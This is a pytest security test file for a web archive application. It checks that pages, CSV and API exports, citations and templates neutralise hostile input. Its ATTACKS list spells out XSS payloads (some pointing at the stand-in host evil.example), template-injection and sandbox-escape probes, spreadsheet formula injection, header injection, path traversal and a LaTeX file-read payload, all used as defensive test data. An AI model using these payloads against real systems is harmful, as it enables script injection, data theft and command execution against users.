"""A report that attacks whoever reads it: in no answer does anything of it run, steer or break out."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest

from onrecord.exporting.annotations import annotation_page
from onrecord.exporting.citation import bibtex, csl, key
from onrecord.showing.api.sheets import defused, saved
from onrecord.showing.templating import environment
from tests.showing.written import filed

if TYPE_CHECKING:
    from onrecord.keeping.protocol import Filed
    from onrecord.keeping.store import SqlStore
    from tests.showing.client import Client

ATTACKS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<a href=javascript:alert(1)>go</a>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<form action=//evil.example><input name=csrf></form>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) x='", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--<script>alert(1)//-->", "]]><script>alert(1)</script>",
    "{{ 7919*7927 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7919*7927}", "#{7919*7927}", "<%= 7919*7927 %>", "{{constructor.constructor('alert(1)')()}}",
    '=HYPERLINK("http://evil.example","go")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\uff1d1+1",
    "hx-get=/logout hx-trigger=load", "<div hx-get='/x' hx-trigger='load' hx-on:load='alert(1)'></div>", "\u202egnihtyna\u202c", "\u2028alert(1)\u2029",
    "}\n\\input{/etc/passwd}\n@article{x,", "\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>", "../../etc/passwd", '"; filename="evil.html',
]  # fmt: skip
_ON = re.compile(r"on[a-z]+", re.IGNORECASE)


class Live(HTMLParser):
    """What a browser would run, load or follow on a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base", "math", "applet", "frame", "foreignobject"):
            self.found.append(tag)
        if tag == "meta" and "http-equiv" in told:
            self.found.append("meta http-equiv")
        if tag == "script" and not told.get("src", "").startswith("/static/") and told.get("type") != "application/json":
            self.found.append(f"script {told}")
        if tag == "link" and not told.get("href", "").startswith("/"):
            self.found.append(f"link {told}")
        if tag == "style" or "style" in told:
            self.found.append("style")
        self.found += [f"{tag} {name}" for name in told if _ON.fullmatch(name) or name.startswith("hx-on")]
        for name in ("href", "src", "action", "formaction", "xlink:href", "srcdoc", "data"):
            value = re.sub(r"[\s\x00-\x1f]", "", told.get(name, "")).lower()
            if value.startswith(("javascript:", "data:text", "vbscript:", "//evil", "http://evil", "https://evil")) and "noopener" not in told.get("rel", ""):
                self.found.append(f"{tag} {name}={value}")


def live(page: str) -> list[str]:
    parser = Live()
    parser.feed(page)
    parser.close()
    return parser.found


def attacking(attack: str) -> Filed:
    text = f"Ida said that {attack} was what Norway" if not attack.startswith(("=", "+", "-", "@")) else f"{attack} said Ida of Norway"
    return filed(text, title=attack, outlet=attack, location=f"https://evil.example/{attack}", byline=attack)


@pytest.fixture
def attacked(store: SqlStore) -> list[str]:
    return [store.add(attacking(attack)).id for attack in ATTACKS]


def test_nothing_of_a_report_is_live_on_any_page(desk: Client, store: SqlStore, attacked: list[str]) -> None:
    identities = [item["identity"] for item in desk.get("/api/v1/actors?limit=200").json()["items"]]
    outlets = [item["outlet"] for item in desk.get("/api/v1/outlets?limit=200").json()["items"]]
    for one, other, attack in zip(attacked, attacked[1:], ATTACKS, strict=False):
        store.judge("different", [(one, "e1"), (other, "e1")], who=attack)
    claims = [item["id"] for item in desk.get("/api/v1/claims?limit=200").json()["items"]]
    assert "Something else</b>: “" in desk.get(f"/claims/{claims[0]}").text
    patterns = {route.path for route in desk.app.routes if hasattr(route, "methods") and "GET" in (route.methods or ())}
    assert "/" in patterns
    names = {"report": attacked, "id": attacked, "identity": identities, "outlet": outlets, "name": outlets, "claim": claims, "item": ["s1"], "key": ["s1"], "local": ["e1"]}
    asked = 0
    for pattern in sorted(patterns):
        if pattern.startswith(("/api/", "/csp")):
            continue
        holes = re.findall(r"\{(\w+)(?::\w+)?\}", pattern)
        for number in range(len(ATTACKS) if holes else 1):
            path = pattern
            for hole in holes:
                values = names.get(hole) or attacked
                before, _, after = re.split(r"(\{" + hole + r"(?::\w+)?\})", path, maxsplit=1)
                path = before + values[number % len(values)] + after
            answer = desk.get(path)
            assert answer.status < 500, path
            if "html" in answer.headers.get("content-type", ""):
                asked += 1
                assert live(answer.text) == [], path
    assert asked


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_request_is_live_on_any_page(desk: Client, attack: str) -> None:
    from urllib.parse import quote

    for path in (f"/login?next={quote(attack)}", f"/{quote(attack)}", f"/?q={quote(attack)}", f"/search?q={quote(attack)}"):
        answer = desk.get(path)
        assert live(answer.text) == [], path
        assert "62773913" not in answer.text
    wrong = desk.form("/login", {"csrf": desk.word(), "name": attack, "password": "wrong password", "next": attack})
    assert live(wrong.text) == []


def test_answers_of_the_api_are_never_pages(desk: Client, attacked: list[str]) -> None:
    for report in attacked:
        for path in ("", "/original", "/annotations", "/citation", "/citation?format=csl", "/tables/reports", "/tables/statements", "/tables/events", "/tables/actors"):
            answer = desk.get(f"/api/v1/records/{report}{path}")
            assert answer.status == 200
            assert "html" not in answer.headers["content-type"] and "xml" not in answer.headers["content-type"]
            assert answer.headers["x-content-type-options"] == "nosniff"
            if path:
                assert re.fullmatch(r'attachment; filename="[A-Za-z0-9.-]+"', answer.headers["content-disposition"])
            assert "set-cookie" not in answer.headers


def test_answers_of_the_api_about_claims_are_never_pages(desk: Client, attacked: list[str]) -> None:
    for claim in [item["id"] for item in desk.get("/api/v1/claims?limit=200").json()["items"]]:
        for path in ("", "/ledger", "/annotations", "/citation", "/citation?format=csl"):
            answer = desk.get(f"/api/v1/claims/{claim}{path}")
            assert answer.status == 200
            assert "html" not in answer.headers["content-type"] and "xml" not in answer.headers["content-type"]
            assert answer.headers["x-content-type-options"] == "nosniff"


def test_bytes_of_a_page_come_back_as_text_to_be_saved(desk: Client, store: SqlStore) -> None:
    page = b"<!doctype html><script>alert(1)</script>"
    kept = filed("Ida said that the harbour was closed by Norway")
    report = store.add(type(kept)(kept.record, page, kept.signature, {})).id
    answer = desk.get(f"/api/v1/records/{report}/original")
    assert answer.body == page
    assert answer.headers["content-type"].startswith("text/plain")
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in answer.headers["content-security-policy"]


def test_no_cell_of_a_table_is_a_formula(desk: Client, store: SqlStore, attacked: list[str]) -> None:
    cells = 0
    for report in attacked:
        for table in ("reports", "statements", "events", "actors"):
            for row in csv.reader(io.StringIO(desk.get(f"/api/v1/records/{report}/tables/{table}").text)):
                for cell in row:
                    cells += 1
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")) or re.fullmatch(r"[+-]?[\d.]+", cell), cell
    assert cells > 1000
    claims = [item["id"] for item in desk.get("/api/v1/claims?limit=200").json()["items"]]
    store.judge("accept", [(attacked[0], "e1")], who="=1+1")
    sheets = ["/search.csv", "/claims.csv", "/outlets.csv", "/judgements.csv", *(f"/claims/{claim}/entries.csv" for claim in claims)]
    for path in sheets:
        for row in csv.reader(io.StringIO(desk.get(path).text)):
            assert not any(cell.startswith(("=", "+", "-", "@")) and not re.fullmatch(r"[+-]?[\d.]+", cell) for cell in row), path
    for path in ("dyads", "network"):
        for row in csv.reader(io.StringIO(desk.get(f"/api/v1/explore/{path}?format=csv&most=500").text)):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.parametrize(("cell", "safe"), [("=1+1", "'=1+1"), ("-5", "-5"), ("-5.2e3", "-5.2e3"), ("-5+1", "'-5+1"), ("plain", "plain"), ("", ""), ("@x", "'@x")])
def test_defused_cells(cell: str, safe: str) -> None:
    assert defused(cell) == safe


@pytest.mark.parametrize("attack", ATTACKS)
def test_names_of_files_are_letters_and_digits(attack: str) -> None:
    (header,) = saved(f"{attack}.csv").values()
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9.-]*"', header)


@pytest.mark.parametrize("attack", ATTACKS)
def test_citations_cannot_be_broken_out_of(attack: str) -> None:
    record = attacking(attack).record
    entry = bibtex(record)
    lines = entry.rstrip("\n").split("\n")
    assert re.fullmatch(r"@article\{[a-z0-9-]+,", lines[0]) and lines[-1] == "}"
    assert all(re.fullmatch(r"  [a-z]+ = (\{.*\}|[a-z]{3}),", line) for line in lines[1:-1])
    depth = 0
    for before, character in zip(" " + entry, entry, strict=False):
        depth += (character == "{" and before != "\\") - (character == "}" and before != "\\")
        assert depth >= 0
    assert depth == 0
    assert "\\input" not in entry
    assert re.fullmatch(r"[a-z0-9-]+", key(record.report))
    assert csl(record)[0]["title"] == attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_annotations_quote_the_words_as_they_are(attack: str) -> None:
    record = attacking(attack).record
    for item in annotation_page(record)["items"]:
        position, quote = item["target"]["selector"]
        assert record.report.text[position["start"] : position["end"]] == quote["exact"]
        assert record.report.text[: position["start"]].endswith(quote["prefix"])
        assert record.report.text[position["end"] :].startswith(quote["suffix"])


def test_templates_escape_everything_whatever_they_are_called() -> None:
    made = environment()
    assert made.autoescape is True
    assert made.from_string("{{ x }} {{ x|tojson }}").render(x="<b>'\"&") == '&lt;b&gt;&#39;&#34;&amp; "\\u003cb\\u003e\\u0027\\"\\u0026"'
    for name in made.list_templates():
        source = made.loader.get_source(made, name)[0] if made.loader else ""
        assert "|safe" not in re.sub(r"\s", "", source) and "autoescapefalse" not in re.sub(r"\s", "", source), name
        assert not re.search(r"<script(?![^>]*(src=|type=\"application/json\"))", source), name
        assert not re.search(r"\son[a-z]+\s*=|\sstyle\s*=|javascript:|hx-on", source, re.IGNORECASE), name
